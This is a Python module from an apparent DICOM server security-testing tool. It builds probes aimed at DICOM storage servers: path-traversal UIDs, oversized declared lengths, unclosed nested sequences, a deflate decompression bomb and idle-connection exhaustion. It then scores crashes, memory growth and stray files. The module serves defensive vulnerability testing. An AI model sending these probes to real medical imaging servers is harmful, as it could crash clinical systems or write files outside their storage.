"""Known vulnerability classes as probes: the bytes each one sends, and how its answers are judged.

A fuzzer finds what it stumbles on; a probe sends on purpose what broke DICOM servers before:

* ``uid-traversal-*``: a C-STORE whose SOP Instance UID names a path (``../../x``, an absolute
  path, backslashes, a NUL, a UID longer than a path may be), in the command set, in the data set,
  or in both (the path traversal of CVE-2022-2119 in DCMTK's storescp, and of pynetdicom issue
  #823, where the UID became the file name);
* ``length-*``: declared lengths far past the bytes that follow (a PDU, a PDV item, a command
  group length or element, a data set element, undefined-length sequences never closed or
  nested thousands deep): a server that allocates what is declared, or recurses as deep as it is
  told, runs out of memory or stack;
* ``deflate-bomb``: a C-STORE on a Deflated Explicit VR Little Endian context (PS3.5 A.5) whose
  data set inflates by a large ratio;
* ``idle-associations``: many associations opened and left idle (the memory-leak CVE class of
  DCMTK's SCPs), then a fresh association and C-ECHO;
* ``artim-idle-connections`` and ``artim-after-release``: TCP connections that never send an
  A-ASSOCIATE-RQ (state Sta2, PS3.8 9.1.4: the ARTIM timer must close them, event Evt18), and
  a connection left open after the A-RELEASE-RP (state Sta13): does the server ever close them?

Every probe's bytes are known before a connection opens (:func:`build_probes`, for the SCP as
our probe proposal found it, :func:`probe_request`), and :func:`assess` judges what a runner
(:mod:`dimse_codec.scpfuzz.probing`) saw: the answers, the liveness check after the probe, the
server's memory and the files a traversal left outside the storage folder. Sans-I/O.
"""

from __future__ import annotations

import enum
import hashlib
import random
import struct
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from types import MappingProxyType

from dimse_codec.association import DEFAULT_MAX_PDU_LENGTH, build_request
from dimse_codec.dataset import (
    DEFLATED_EXPLICIT_VR_LITTLE_ENDIAN,
    EXPLICIT_VR_LITTLE_ENDIAN,
    IMPLICIT_VR_LITTLE_ENDIAN,
    deflate,
)
from dimse_codec.pdata import fragment_size
from dimse_codec.pdu import MCH_COMMAND, MCH_LAST, AAssociateRQ
from dimse_codec.scpfuzz.findings import Answer, Health, Liveness, StepRecord
from dimse_codec.scpfuzz.model import VERIFICATION, Expect, Step, Target
from dimse_codec.scpfuzz.steps import details, release_step, request_step
from dimse_codec.strategies.raw import message_pdvs, one_pdv_per_pdu, p_data_tf, pdv_item

__all__ = [
    "DEFLATED_CONTEXT",
    "EXPLICIT_CONTEXT",
    "SECONDARY_CAPTURE",
    "VERIFICATION_CONTEXT",
    "Family",
    "Memory",
    "Probe",
    "ProbeRecord",
    "ProbeSettings",
    "Severity",
    "Shape",
    "Verdict",
    "assess",
    "bomb_dataset",
    "build_probes",
    "probe_request",
    "select_probes",
]

SECONDARY_CAPTURE = "1.2.840.10008.5.1.4.1.1.7"
"""The SOP class every probe's C-STORE is of (Secondary Capture Image Storage)."""
VERIFICATION_CONTEXT = 1
"""Context 1 of :func:`probe_request`: Verification."""
EXPLICIT_CONTEXT = 3
"""Context 3: Secondary Capture in Explicit VR Little Endian (the traversal and length probes)."""
DEFLATED_CONTEXT = 5
"""Context 5: Secondary Capture in Deflated Explicit VR Little Endian (the bomb)."""
_UNDEFINED = 0xFFFFFFFF
_HUGE = 0xFFFFFFF0
"""A declared length far past any data, even (a data set length must be)."""
_DEFAULT_FRAGMENT_PDU = 16384
"""The PDU length a message is cut for when the SCP announced no maximum."""


class Family(str, enum.Enum):
    """The vulnerability class a probe belongs to."""

    TRAVERSAL = "path-traversal"
    LENGTH = "declared-length"
    BOMB = "decompression-bomb"
    IDLE = "idle-associations"
    ARTIM = "artim"


class Shape(str, enum.Enum):
    """How a runner drives a probe."""

    EXCHANGE = "exchange"
    """Send the steps on one connection, each after the answer to the one before, and sample the
    server's memory before closing it."""
    IDLE_ASSOCIATIONS = "idle-associations"
    """Open ``settings.idle`` associations (the first step), hold them, check a fresh one."""
    IDLE_CONNECTIONS = "idle-connections"
    """Open ``settings.idle_connections`` TCP connections, send nothing, time their closing."""
    RELEASED = "released"
    """Take ``settings.idle`` connections through the steps (associate, release) and keep them
    open: time their closing, check a fresh association meanwhile."""


@dataclass(frozen=True, slots=True)
class ProbeSettings:
    """What the probes are sized by.

    ``marker`` goes into every traversal UID (so a stray file is found by name, and a run's
    files are told from another's); ``absolute_dir`` is the folder the absolute-path UIDs name.
    The bomb's data set inflates to ``bomb_size`` bytes from ``bomb_size / bomb_ratio``.
    """

    bomb_ratio: int = 1000
    bomb_size: int = 64 << 20
    idle: int = 16
    idle_connections: int = 3
    nesting: int = 10_000
    marker: str = "dimseprobe"
    absolute_dir: str = "/tmp"
    memory_floor: int = 64 << 20
    """Memory growth under this many bytes is never a finding (allocator noise, a forked
    child's copy of its parent)."""

    def __post_init__(self) -> None:
        if self.bomb_ratio < 2 or self.bomb_size < 1024:
            raise ValueError("bomb_ratio must be at least 2 and bomb_size at least 1024 bytes")
        if self.idle < 1 or self.idle_connections < 1 or self.nesting < 1:
            raise ValueError("idle, idle_connections and nesting must be at least 1")
        if not self.marker.isalnum():
            raise ValueError("marker must be letters and digits only")


@dataclass(frozen=True, slots=True, repr=False)
class Probe:
    """One probe: what it tries, its steps, and what the runner needs to judge it.

    ``context_id`` is the presentation context its message goes on (``None``: none needed): a
    probe whose context the SCP did not accept is skipped. ``holds`` is how many bytes the
    server may need to hold to serve it (the inflated size of the bomb): memory growth is judged
    against it. ``aims`` are the paths a traversal UID names, for the runner to look for.
    """

    name: str
    family: Family
    shape: Shape
    summary: str
    steps: tuple[Step, ...]
    context_id: int | None = None
    holds: int = 0
    aims: tuple[str, ...] = ()
    details: Mapping[str, object] = field(default_factory=lambda: MappingProxyType({}))

    def __repr__(self) -> str:
        """Short: the name and the step sizes, not the bytes."""
        return f"Probe({self.name!r}, steps={[len(s.data) for s in self.steps]})"

    @property
    def sent(self) -> bytes:
        """Every byte of every step, in order."""
        return b"".join(step.data for step in self.steps)


def probe_request(
    calling_ae_title: str, called_ae_title: str, *, max_pdu_length: int = DEFAULT_MAX_PDU_LENGTH
) -> AAssociateRQ:
    """The A-ASSOCIATE-RQ of every probe: Verification, and Secondary Capture twice.

    Context 1 is Verification (for the liveness check's C-ECHO), 3 Secondary Capture in Explicit
    VR Little Endian, 5 the same in Deflated Explicit VR Little Endian: one transfer syntax
    each, so the bytes of a probe's message are fixed by the context it goes on.
    """
    contexts: list[tuple[str, tuple[str, ...]]] = [
        (VERIFICATION, (IMPLICIT_VR_LITTLE_ENDIAN.uid, EXPLICIT_VR_LITTLE_ENDIAN.uid)),
        (SECONDARY_CAPTURE, (EXPLICIT_VR_LITTLE_ENDIAN.uid,)),
        (SECONDARY_CAPTURE, (DEFLATED_EXPLICIT_VR_LITTLE_ENDIAN.uid,)),
    ]
    return build_request(calling_ae_title, called_ae_title, contexts, max_pdu_length=max_pdu_length)


# --- raw elements ---------------------------------------------------------------------------------


def _padded(value: bytes, pad: bytes) -> bytes:
    return value + pad if len(value) % 2 else value


def _implicit(tag: int, value: bytes, length: int | None = None) -> bytes:
    """An Implicit VR Little Endian element (a command set's), its length declared or true."""
    size = len(value) if length is None else length
    return struct.pack("<HHL", tag >> 16, tag & 0xFFFF, size) + value


def _explicit(tag: int, vr: str, value: bytes, length: int | None = None) -> bytes:
    """An Explicit VR Little Endian element, its length declared or true (PS3.5 7.1.2)."""
    size = len(value) if length is None else length
    head = struct.pack("<HH", tag >> 16, tag & 0xFFFF) + vr.encode("ascii")
    if vr in ("OB", "OW", "SQ", "UN", "UT", "UC", "UR", "OD", "OF", "OL", "OV"):
        return head + struct.pack("<xxL", size) + value
    return head + struct.pack("<H", size) + value


def _uid(value: str) -> bytes:
    return _padded(value.encode("latin-1"), b"\x00")


def _store_command(message_id: int, instance_uid: str, *, group_length: int | None = None) -> bytes:
    """A C-STORE-RQ command set (PS3.7 9.3.1.1), with any Affected SOP Instance UID at all."""
    body = b"".join(
        (
            _implicit(0x00000002, _uid(SECONDARY_CAPTURE)),
            _implicit(0x00000100, struct.pack("<H", 0x0001)),
            _implicit(0x00000110, struct.pack("<H", message_id)),
            _implicit(0x00000700, struct.pack("<H", 0x0000)),
            _implicit(0x00000800, struct.pack("<H", 0x0000)),
            _implicit(0x00001000, _uid(instance_uid)),
        )
    )
    declared = len(body) if group_length is None else group_length
    return _implicit(0x00000000, struct.pack("<L", declared)) + body


def _echo_command(message_id: int) -> bytes:
    """A C-ECHO-RQ command set: group length, Affected SOP Class, Command Field, ID, no data."""
    body = b"".join(
        (
            _implicit(0x00000002, _uid(VERIFICATION)),
            _implicit(0x00000100, struct.pack("<H", 0x0030)),
            _implicit(0x00000110, struct.pack("<H", message_id)),
            _implicit(0x00000800, struct.pack("<H", 0x0101)),
        )
    )
    return _implicit(0x00000000, struct.pack("<L", len(body))) + body


def _header(instance_uid: str, uids: str) -> bytes:
    """The first elements of a probe's data set, Explicit VR Little Endian, ascending tags."""
    return b"".join(
        (
            _explicit(0x00080016, "UI", _uid(SECONDARY_CAPTURE)),
            _explicit(0x00080018, "UI", _uid(instance_uid)),
            _explicit(0x00080060, "CS", b"OT"),
            _explicit(0x00100010, "PN", b"DIMSE^PROBE "),
            _explicit(0x00100020, "LO", b"DIMSEPROBE"),
            _explicit(0x0020000D, "UI", _uid(f"{uids}.1")),
            _explicit(0x0020000E, "UI", _uid(f"{uids}.2")),
        )
    )


def _valid_uid(seed: str) -> str:
    """A valid UID under 2.25 (PS3.5 B.2), fixed by ``seed``."""
    return f"2.25.{int.from_bytes(hashlib.sha256(seed.encode()).digest()[:12], 'big')}"


# --- the probes -----------------------------------------------------------------------------------


def _cut(target: Target) -> int:
    """The fragment size for the SCP's maximum PDU length."""
    return fragment_size(target.peer_max_pdu_length or _DEFAULT_FRAGMENT_PDU)


def _message(target: Target, command: bytes, dataset: bytes | None, context_id: int) -> bytes:
    """A message's P-DATA-TF PDUs, one PDV each, cut for the SCP: nothing is checked."""
    return one_pdv_per_pdu(message_pdvs(command, dataset, context_id, _cut(target)))


_TRAVERSALS: tuple[tuple[str, str], ...] = (
    ("relative", "../../{m}"),
    ("absolute", "{a}/{m}"),
    ("backslash", "..\\..\\{m}"),
    ("nul", "1.2.3\x00/../../{m}"),
    ("long", ""),
)
"""The UIDs that name a path: ``{m}`` is the probe's marker, ``{a}`` the absolute folder; the
long one is 4,100 characters of a valid-looking UID, past PATH_MAX and any file name length."""
_PLACES = ("both", "command", "dataset")
"""Where the path UID goes: both (consistent), only the command set, only the data set."""


def _traversal_uid(pattern: str, marker: str, absolute_dir: str) -> str:
    if not pattern:
        return "1." + "2." * 2048 + "3"
    return pattern.format(m=marker, a=absolute_dir.rstrip("/\\"))


def _traversals(target: Target, settings: ProbeSettings) -> list[Probe]:
    probes = []
    number = 0
    for kind, pattern in _TRAVERSALS:
        for place in _PLACES:
            number += 1
            marker = f"{settings.marker}{number:02d}"
            path = _traversal_uid(pattern, marker, settings.absolute_dir)
            valid = _valid_uid(marker)
            in_command = path if place in ("both", "command") else valid
            in_dataset = path if place in ("both", "dataset") else valid
            command = _store_command(number, in_command)
            dataset = _header(in_dataset, _valid_uid(marker + "study"))
            store = Step(
                "C-STORE-RQ",
                _message(target, command, dataset, EXPLICIT_CONTEXT),
                Expect.RESPONSE,
            )
            shown = path if len(path) <= 40 else f"{path[:12]}...({len(path)} characters)"
            probes.append(
                Probe(
                    f"uid-traversal-{kind}-{place}",
                    Family.TRAVERSAL,
                    Shape.EXCHANGE,
                    f"C-STORE whose SOP Instance UID is {shown!r} in the "
                    + {
                        "both": "command and data set",
                        "command": "command set only",
                        "dataset": "data set only",
                    }[place],
                    (request_step(target), store, release_step()),
                    EXPLICIT_CONTEXT,
                    len(dataset),
                    (path,) if pattern else (),
                    details(uid=path, place=place, marker=marker),
                )
            )
    return probes


def _length_probe(
    name: str, summary: str, steps: Sequence[Step], declared: int, actual: int, **more: object
) -> Probe:
    context = more.pop("context_id", None)
    return Probe(
        name,
        Family.LENGTH,
        Shape.EXCHANGE,
        summary,
        tuple(steps),
        context if isinstance(context, int) else None,
        actual,
        (),
        details(declared=declared, actual=actual, **more),
    )


def _nested(depth: int) -> bytes:
    """``depth`` undefined-length sequences, each in an undefined-length item of the one before,
    none ever closed (Referenced Series Sequence, PS3.5 7.5)."""
    level = _explicit(0x00081115, "SQ", b"", _UNDEFINED) + struct.pack(
        "<HHL", 0xFFFE, 0xE000, _UNDEFINED
    )
    return level * depth


def _lengths(target: Target, settings: ProbeSettings) -> list[Probe]:
    rq = target.request_bytes
    cut_rq = rq[:2] + struct.pack(">L", _UNDEFINED) + rq[6:70]
    probes = [
        _length_probe(
            "length-associate-pdu",
            "an A-ASSOCIATE-RQ whose PDU length is FFFFFFFFH, with 64 bytes of its body",
            [Step("A-ASSOCIATE-RQ (length FFFFFFFFH)", cut_rq, Expect.NOTHING)],
            _UNDEFINED,
            len(cut_rq) - 6,
        )
    ]
    uid = _valid_uid(settings.marker + "length")
    command = _store_command(1, uid)
    pdv = struct.pack(">LBB", _HUGE, EXPLICIT_CONTEXT, MCH_COMMAND | MCH_LAST) + command
    group = _store_command(2, uid, group_length=_HUGE)
    element = _echo_command(3)[:12] + _implicit(0x00000002, _uid(VERIFICATION)[:8], _HUGE)
    last_command = MCH_COMMAND | MCH_LAST
    messages = (
        (
            "length-pdata-pdu",
            "a P-DATA-TF whose PDU length is FFFFFFFFH, with one PDV of a C-STORE command set",
            "P-DATA-TF (length FFFFFFFFH)",
            struct.pack(">BBL", 0x04, 0, _UNDEFINED)
            + pdv_item(EXPLICIT_CONTEXT, last_command, command),
            _UNDEFINED,
            EXPLICIT_CONTEXT,
        ),
        (
            "length-pdv-item",
            "a PDV item whose length is FFFFFFF0H inside a P-DATA-TF that ends after its "
            f"{len(command)} bytes",
            "P-DATA-TF (PDV length FFFFFFF0H)",
            struct.pack(">BBL", 0x04, 0, len(pdv)) + pdv,
            _HUGE,
            EXPLICIT_CONTEXT,
        ),
        (
            "length-command-group",
            "a C-STORE-RQ command set whose group length (0000,0000) says FFFFFFF0H",
            "C-STORE-RQ (group length FFFFFFF0H)",
            p_data_tf([(EXPLICIT_CONTEXT, last_command, group)]),
            _HUGE,
            EXPLICIT_CONTEXT,
        ),
        (
            "length-command-element",
            "a C-ECHO-RQ command set whose Affected SOP Class UID declares FFFFFFF0H bytes and "
            "ends 8 bytes later",
            "C-ECHO-RQ (element length FFFFFFF0H)",
            p_data_tf([(VERIFICATION_CONTEXT, last_command, element)]),
            _HUGE,
            VERIFICATION_CONTEXT,
        ),
    )
    open_ = request_step(target)
    for name, summary, label, data, declared, context in messages:
        probes.append(
            _length_probe(
                name,
                summary,
                [open_, Step(label, data, Expect.NOTHING)],
                declared,
                len(data) - 6,
                context_id=context,
            )
        )
    header = _header(uid, _valid_uid(settings.marker + "lengthstudy"))
    datasets = (
        (
            "length-dataset-element",
            "a C-STORE whose Pixel Data (7FE0,0010) OB declares FFFFFFF0H bytes and 16 follow",
            header + _explicit(0x7FE00010, "OB", bytes(16), _HUGE),
            _HUGE,
        ),
        (
            "length-dataset-sequence",
            "a C-STORE whose data set ends inside an undefined-length sequence and item never "
            "closed",
            header + _nested(1) + _explicit(0x00080018, "UI", _uid(uid)),
            _UNDEFINED,
        ),
        (
            "length-dataset-nesting",
            f"a C-STORE whose data set nests {settings.nesting} undefined-length sequences, "
            "none closed",
            header + _nested(settings.nesting),
            _UNDEFINED,
        ),
    )
    for number, (name, summary, dataset, declared) in enumerate(datasets, start=4):
        store = _message(target, _store_command(number, uid), dataset, EXPLICIT_CONTEXT)
        probes.append(
            _length_probe(
                name,
                summary,
                [open_, Step("C-STORE-RQ", store, Expect.NOTHING)],
                declared,
                len(dataset),
                context_id=EXPLICIT_CONTEXT,
                depth=settings.nesting if name.endswith("nesting") else 1,
            )
        )
    return probes


def bomb_dataset(size: int, ratio: int, seed: str = "bomb") -> tuple[bytes, int]:
    """A data set that inflates to about ``size`` bytes from ``size / ratio`` deflated ones.

    Its Pixel Data holds zeros (raw DEFLATE's best case, about 1030:1) and, for a lower ratio,
    enough bytes of a fixed pseudo-random sequence (which do not compress) to bring it down.
    Returns the deflated bytes and the inflated length. Raises ``ValueError`` when deflate cannot
    reach ``ratio`` at this size.
    """
    header = _header(_valid_uid(seed), _valid_uid(seed + "study"))
    value = size - len(header) - 12
    if value < 2:
        raise ValueError(f"a bomb of {size} bytes leaves no room for its Pixel Data")
    value -= value % 2
    noise = random.Random(seed).randbytes(value)

    def built(random_bytes: int) -> tuple[bytes, int]:
        random_bytes = max(0, min(value, random_bytes))
        pixels = bytes(value - random_bytes) + noise[:random_bytes]
        plain = header + _explicit(0x7FE00010, "OB", pixels)
        return deflate(plain), len(plain)

    deflated, inflated = built(0)
    best = inflated / len(deflated)
    if ratio > best:
        raise ValueError(f"deflate reaches at most {best:.0f}:1 on {size} bytes, not {ratio}:1")
    wanted = inflated // ratio
    extra = 0
    for _ in range(3):  # the random bytes add about their own length to the stream
        extra += wanted - len(deflated)
        deflated, inflated = built(extra)
    return deflated, inflated


def _bomb(target: Target, settings: ProbeSettings) -> Probe:
    deflated, inflated = bomb_dataset(settings.bomb_size, settings.bomb_ratio, settings.marker)
    command = _store_command(1, _valid_uid(settings.marker + "bomb"))
    store = Step(
        "C-STORE-RQ", _message(target, command, deflated, DEFLATED_CONTEXT), Expect.RESPONSE
    )
    return Probe(
        "deflate-bomb",
        Family.BOMB,
        Shape.EXCHANGE,
        f"a C-STORE on a deflated context whose {len(deflated):,}-byte data set inflates to "
        f"{inflated:,} bytes ({inflated / len(deflated):.0f}:1)",
        (request_step(target), store, release_step()),
        DEFLATED_CONTEXT,
        inflated,
        (),
        details(deflated=len(deflated), inflated=inflated, ratio=round(inflated / len(deflated))),
    )


def _idle(target: Target, settings: ProbeSettings) -> list[Probe]:
    return [
        Probe(
            "idle-associations",
            Family.IDLE,
            Shape.IDLE_ASSOCIATIONS,
            f"{settings.idle} associations opened and left idle, then a fresh association and "
            "C-ECHO, then each released",
            (request_step(target), release_step()),
            details=details(associations=settings.idle),
        ),
        Probe(
            "artim-idle-connections",
            Family.ARTIM,
            Shape.IDLE_CONNECTIONS,
            f"{settings.idle_connections} TCP connections that never send an A-ASSOCIATE-RQ "
            "(Sta2: ARTIM expiry must close them, PS3.8 9.1.4)",
            (),
            details=details(connections=settings.idle_connections),
        ),
        Probe(
            "artim-after-release",
            Family.ARTIM,
            Shape.RELEASED,
            f"{settings.idle} associations released, each connection left open (Sta13: ARTIM "
            "expiry must close them), and a fresh association meanwhile",
            (request_step(target), release_step()),
        ),
    ]


def build_probes(target: Target, settings: ProbeSettings | None = None) -> tuple[Probe, ...]:
    """Every probe, for the SCP as :func:`probe_request` found it (its maximum PDU length).

    Messages are cut for the SCP's maximum; contexts it did not accept are not left out here
    (the runner skips those probes), so the probes' bytes depend only on the settings and on
    the request and maximum in ``target``.
    """
    settings = settings or ProbeSettings()
    return (
        *_traversals(target, settings),
        *_lengths(target, settings),
        _bomb(target, settings),
        *_idle(target, settings),
    )


def select_probes(probes: Iterable[Probe], only: Sequence[str]) -> tuple[Probe, ...]:
    """The probes named in ``only``: a whole name or its beginning up to a ``-`` (``length``,
    ``uid-traversal-relative``); all of them when ``only`` is empty. Raises ``ValueError``
    naming what matched nothing."""
    probes = tuple(probes)
    if not only:
        return probes
    chosen = [p for p in probes if any(p.name == o or p.name.startswith(o + "-") for o in only)]
    unmatched = [
        o for o in only if not any(p.name == o or p.name.startswith(o + "-") for p in probes)
    ]
    if unmatched:
        raise ValueError(f"no probe is named {', '.join(map(repr, unmatched))}")
    return tuple(chosen)


# --- judging --------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Memory:
    """The server's memory at one moment, its forked children included (bytes, from
    ``/proc/PID/status``): resident now (VmRSS), resident at most (VmHWM), processes, and the
    proportional set size (``/proc/PID/smaps_rollup``, 0 when unreadable), which counts the
    pages a forked child shares with its parent once, where VmRSS counts them in each."""

    rss: int
    hwm: int
    processes: int
    pss: int = 0


@dataclass(frozen=True, slots=True)
class ProbeRecord:
    """What a runner saw of one probe.

    ``records`` are the steps' answers (for ``idle-associations``, the last association's);
    ``during`` is the liveness check made while the probe's connections were open (idle shapes)
    and ``liveness`` the one after they were closed. ``closed_after`` gives, per connection
    left idle, the seconds until the server closed it (``None``: still open after ``waited``).
    ``held`` counts the connections opened and held (associations, for the association
    shapes); ``released`` those still answering a release at the end. ``outside`` are files
    a traversal left outside the storage folder.
    """

    name: str
    records: tuple[StepRecord, ...] = ()
    skipped: str = ""
    liveness: Liveness | None = None
    during: Liveness | None = None
    memory_before: Memory | None = None
    memory_during: Memory | None = None
    memory_after: Memory | None = None
    outside: tuple[str, ...] = ()
    closed_after: tuple[float | None, ...] = ()
    waited: float = 0.0
    held: int = 0
    released: int = 0


class Severity(str, enum.Enum):
    """How much a probe's result matters."""

    OK = "ok"
    NOTE = "note"
    """Worth knowing, not a vulnerability (a server that refuses new associations while others
    idle at its configured limit, one that stored an invalid UID under a safe name)."""
    FINDING = "finding"
    SKIPPED = "skipped"


@dataclass(frozen=True, slots=True)
class Verdict:
    """A probe's result: its severity, a one-word outcome and why."""

    severity: Severity
    outcome: str
    reasons: tuple[str, ...]

    @property
    def reason(self) -> str:
        """The reasons in one line."""
        return "; ".join(self.reasons)


_MiB = 1 << 20


def _growth(before: Memory | None, later: Memory | None) -> int | None:
    """How much the server grew from ``before`` to ``later``: resident, or its peak."""
    if before is None or later is None:
        return None
    if before.processes == later.processes:
        return max(later.rss - before.rss, later.hwm - before.hwm)
    if before.pss and later.pss:  # children came or went: their shared pages counted once
        return later.pss - before.pss
    return later.rss - before.rss


def memory_bound(probe: Probe, settings: ProbeSettings) -> int:
    """Growth past this many bytes is a finding: the floor, plus four times what the probe
    legitimately makes the server hold (a copy to decode, one to store, and slack)."""
    return settings.memory_floor + 4 * probe.holds


def _answered(records: Sequence[StepRecord]) -> str:
    """The answer to the last step sent, in words."""
    if not records:
        return "nothing sent"
    last = records[-1]
    return f"{last.label}: {last.answer.kind.value} ({last.answer.detail})"


def _liveness_reasons(record: ProbeRecord) -> list[tuple[Severity, str, str]]:
    found = []
    live = record.liveness
    if live is not None and live.health is not Health.ALIVE:
        outcome = {Health.DOWN: "crash", Health.UNRESPONSIVE: "hang"}.get(live.health, "refusing")
        found.append((Severity.FINDING, outcome, f"after the probe the server is "
                      f"{live.health.value}: {live.detail}"))  # fmt: skip
    return found


def _memory_reasons(
    probe: Probe, record: ProbeRecord, settings: ProbeSettings
) -> list[tuple[Severity, str, str]]:
    found = []
    bound = memory_bound(probe, settings)
    peak = _growth(record.memory_before, record.memory_during)
    if peak is not None and peak > bound:
        found.append((Severity.FINDING, "memory", f"the server grew by {peak / _MiB:.0f} MiB "
                      f"during the probe (bound {bound / _MiB:.0f} MiB)"))  # fmt: skip
    kept_bytes = _growth(record.memory_before, record.memory_after)
    if kept_bytes is not None and kept_bytes > bound:
        kept = kept_bytes / _MiB
        why = f"the server kept {kept:.0f} MiB after the probe's connections closed"
        found.append((Severity.FINDING, "retains-memory", why))
    return found


def _traversal_reasons(probe: Probe, record: ProbeRecord) -> list[tuple[Severity, str, str]]:
    if record.outside:
        why = f"a file appeared outside the storage folder: {', '.join(record.outside)}"
        return [(Severity.FINDING, "writes-outside", why)]
    stored = [r for r in record.records if r.label == "C-STORE-RQ" and r.answer.accepts]
    if stored:
        return [(Severity.NOTE, "stored",
                 "the instance was stored (Success or Warning) though its UID is not one PS3.5 9.1 "
                 "allows; no file appeared outside the storage folder")]  # fmt: skip
    return []


def _idle_reasons(
    probe: Probe, record: ProbeRecord, settings: ProbeSettings
) -> list[tuple[Severity, str, str]]:
    found = []
    during = record.during
    if during is not None and during.health is not Health.ALIVE:
        what = {
            Shape.IDLE_ASSOCIATIONS: f"{record.held} idle association(s)",
            Shape.RELEASED: f"{record.held} released connection(s)",
        }.get(probe.shape, f"{len(record.closed_after)} idle connection(s)")
        found.append((Severity.NOTE, "blocked", f"while {what} stayed open a fresh association "
                      f"was {during.health.value}: {during.detail}"))  # fmt: skip
    if probe.shape in (Shape.IDLE_ASSOCIATIONS, Shape.RELEASED) and record.held < settings.idle:
        found.append((Severity.NOTE, "limited", f"only {record.held} of {settings.idle} "
                      f"associations were accepted ({_answered(record.records)})"))  # fmt: skip
    idle_connections = probe.shape in (Shape.IDLE_CONNECTIONS, Shape.RELEASED)
    never = record.closed_after and all(seconds is None for seconds in record.closed_after)
    if idle_connections and never:
        why = f"no idle connection was closed by the server within {record.waited:g} s"
        found.append((Severity.FINDING, "stays-open", why))
    return found


def assess(probe: Probe, record: ProbeRecord, settings: ProbeSettings | None = None) -> Verdict:
    """Judge what a runner saw of ``probe``.

    Findings: the server down, hung or refusing after the probe (``crash``, ``hang``,
    ``refusing``); a file outside its storage folder (``writes-outside``); memory grown past
    :func:`memory_bound` while the probe's connection was open (``memory``) or kept after it
    closed (``retains-memory``); no idle connection ever closed within the wait
    (``stays-open``). Notes: a fresh association not served while idle ones were open
    (``blocked``), fewer idle associations accepted than asked (``limited``), an invalid UID
    stored (``stored``). Anything else is ``ok``, with the answer.
    """
    settings = settings or ProbeSettings()
    if record.skipped:
        return Verdict(Severity.SKIPPED, "skipped", (record.skipped,))
    found = [
        *_liveness_reasons(record),
        *_memory_reasons(probe, record, settings),
        *(_traversal_reasons(probe, record) if probe.family is Family.TRAVERSAL else []),
        *_idle_reasons(probe, record, settings),
    ]
    for severity in (Severity.FINDING, Severity.NOTE):
        chosen = [item for item in found if item[0] is severity]
        if chosen:  # the worst first, then the notes beside a finding
            ordered = chosen + [item for item in found if item[0] is not severity]
            return Verdict(severity, chosen[0][1], tuple(reason for _, _, reason in ordered))
    return Verdict(Severity.OK, "ok", (_answered(record.records),))


def answer_of(record: ProbeRecord) -> Answer | None:
    """The answer to the last step sent, if any step was sent."""
    return record.records[-1].answer if record.records else None
